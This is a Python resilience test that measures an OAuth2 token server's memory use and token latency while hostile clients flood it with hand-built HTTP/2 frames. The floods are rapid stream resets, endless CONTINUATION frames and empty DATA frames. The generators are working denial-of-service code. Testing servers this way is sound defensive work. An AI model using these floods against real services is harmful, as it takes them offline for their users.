"""Clients that break HTTP/2 on purpose, beside one that wants its tokens: what that costs (DO-08)."""

import concurrent.futures
import socket
import struct
import time
import urllib.parse

from . import limits, load
from .load import Request

SECONDS, CLIENTS, HOSTILE = 10, 8, 4
LONGEST, MEMORY = 500, 64  # ms, MiB
PIECE = 1000

# RFC 9113 §6
DATA, HEADERS, RST_STREAM, SETTINGS, CONTINUATION = 0, 1, 3, 4, 9
END_STREAM, END_HEADERS = 1, 4


def report(server):
    """Runs it, prints the figures against their limits, and says whether all hold."""
    address = urllib.parse.urlsplit(server.url)
    tokens = Request.of_client(
        server.dev["service_client"], "/oauth2/token", {"grant_type": "client_credentials", "scope": "records:read"}
    )
    before = server.memory()
    with concurrent.futures.ThreadPoolExecutor() as all_of_them:
        end = time.monotonic() + SECONDS
        floods = [flood for flood in (_resets, _continuations, _empty_data) for _ in range(HOSTILE)]
        hostile = [all_of_them.submit(_until, end, address, flood) for flood in floods]
        beside = all_of_them.submit(load.run, server, tokens, CLIENTS, SECONDS).result()
        connections = sum(one.result() for one in hostile)

    figures = [
        ("memory over what it was, MiB", server.memory() - before, MEMORY),
        ("p99 of /oauth2/token, ms", beside.p99, LONGEST),
    ]
    print(f"\n{len(floods)} clients flood with HTTP/2 frames for {SECONDS} s: {connections:,} connections were ended;")
    print(f"beside them {beside.rate:,.0f} tokens in a second.\n")
    return limits.hold(figures)


def _until(end, address, flood):
    """Begins the flood again each time the server ends the connection. How often that was."""
    ended = 0
    while time.monotonic() < end:
        with socket.create_connection((address.hostname, address.port), timeout=5) as connection:
            try:
                connection.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + _frame(SETTINGS, 0, 0))
                for piece in flood(address.netloc.encode()):
                    if time.monotonic() > end:
                        return ended
                    connection.sendall(piece)
            except OSError:
                ended += 1
    return ended


def _resets(host):
    """Streams that are opened and reset at once."""
    header, cancel = _header(0x82, host), struct.pack(">I", 8)
    for n in range(1_000):
        streams = range(2 * n * PIECE + 1, 2 * (n + 1) * PIECE, 2)
        pairs = (_frame(HEADERS, END_STREAM | END_HEADERS, s, header) + _frame(RST_STREAM, 0, s, cancel) for s in streams)
        yield b"".join(pairs)


def _continuations(host):
    """A header that never ends."""
    yield _frame(HEADERS, END_STREAM, 1, _header(0x82, host))
    while True:
        yield _frame(CONTINUATION, 0, 1, b"\x00\x01a\x01b") * PIECE


def _empty_data(host):
    """A body that never comes."""
    yield _frame(HEADERS, END_HEADERS, 1, _header(0x83, host))
    while True:
        yield _frame(DATA, 0, 1) * PIECE


def _header(method, host):
    """Method of the static table, http, this authority, and a path (RFC 7541 §6, appendix A)."""
    path = b"/oauth2/token"
    return bytes([method, 0x86, 0x01, len(host)]) + host + bytes([0x04, len(path)]) + path


def _frame(kind, flags, stream, payload=b""):
    """RFC 9113 §4.1"""
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload
